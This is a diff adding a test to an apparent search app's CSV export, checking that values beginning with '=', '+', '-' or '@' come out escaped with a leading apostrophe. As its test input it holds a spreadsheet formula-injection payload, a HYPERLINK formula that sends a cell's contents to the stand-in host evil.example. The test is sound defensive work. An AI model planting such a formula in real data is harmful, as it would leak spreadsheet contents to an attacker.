@@ -209,3 +209,33 @@ def test_a_narrower_search_of_the_big_index_is_whole(big):
     rows = read_csv(client.get("/export.csv?q=municipio&year=2003"))
     assert [r["url"] for r in rows] == [ROOT + h["url"] for h in expected]
     assert 0 < len(rows) < EXPORT_LIMIT
+
+
+def test_a_csv_cell_never_starts_a_spreadsheet_formula(tree, tmp_path):
+    from indexer.build import build_index
+    from tests.conftest import TODAY
+    from tests.corpus import front
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
+    root = tree(
+        {
+            "cases/formula.md": front(
+                title=f"'{formula}'",
+                date="2020",
+                countries="[UY]",
+                themes="[agua]",
+                city="'@Montevideo'",
+                summary="'-2+3 y agua potable'",
+            )
+            + "\n## Contexto\n\n+1 litros de agua potable por persona.\n"
+        }
+    )
+    index = tmp_path / "ix"
+    assert build_index(root, index, today=TODAY).exit_code == 0
+    client = create_app({"KB_INDEX": str(index), "TESTING": True}).test_client()
+    rows = read_csv(client.get("/export.csv?q=potable"))
+    row = next(r for r in rows if "HYPERLINK" in r["title"])
+    assert row["title"] == "'" + formula
+    assert row["cities"] == "'@Montevideo"
+    for cell in (v for r in rows for v in r.values()):
+        assert cell[:1] not in ("=", "+", "-", "@"), cell
